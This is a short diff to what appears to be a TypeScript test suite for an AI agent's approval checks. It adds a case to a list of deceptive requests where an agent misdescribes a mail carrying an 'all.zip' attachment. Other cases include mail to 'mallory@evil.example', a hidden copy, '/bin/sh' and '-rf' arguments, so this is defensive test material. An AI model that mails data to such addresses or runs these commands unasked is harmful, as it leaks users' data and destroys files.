@@ -137,6 +137,7 @@ const lies: [string, Call][] = [
   ['for what another agent made', ['result.find', { stepId: id('read') }]],
   ['the owner about a mail to somebody else', ask('send', mail({ to: ['mallory@evil.example'] }))],
   ['the owner about a mail with a hidden copy', ask('send', mail({ cc: ['mallory@evil.example'] }))],
+  ['the owner about a mail with a file', ask('send', mail({ attachments: [{ name: 'all.zip', bytes: 9 }] }))],
   ['the owner about a mail from a step that only reads', ask('mails', mail({}))],
   ['the owner about another program', ask('run', command({ program: '/bin/sh' }))],
   ['the owner about other arguments', ask('run', command({ arguments: ['-rf'] }))],
